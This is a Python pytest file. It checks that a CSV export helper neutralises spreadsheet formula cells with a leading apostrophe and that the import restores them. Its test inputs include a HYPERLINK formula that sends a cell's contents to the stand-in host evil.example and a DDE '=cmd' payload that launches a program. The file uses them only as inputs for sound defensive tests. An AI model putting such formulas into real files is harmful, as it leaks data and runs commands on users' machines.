"""CSV cells a spreadsheet would run as formulas are neutralised, and the import undoes it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from icsflow.workflow.csv_cells import restore_cell, safe_cell


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?"&A1,"open")',
                                  "=cmd|' /c calc'!A1", "+1+2", "-2+3", "@SUM(A1:A2)",
                                  "\t=1+1", "\r=1+1", "-", "'=1+1"])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3", "+44", "1.5", "-0.25e3", "Plan drift", "iro@x.org",
                                  "", "'quoted", 7, None, True])
def test_plain_numbers_and_ordinary_text_are_left_alone(cell: object) -> None:
    assert safe_cell(cell) == cell


@given(st.text())
def test_restoring_a_neutralised_cell_gives_back_exactly_what_was_written(text: str) -> None:
    assert restore_cell(safe_cell(text)) == text


def test_an_ordinary_apostrophe_is_kept_by_the_import() -> None:
    assert restore_cell("'tis") == "'tis" and restore_cell("'-5") == "'-5"
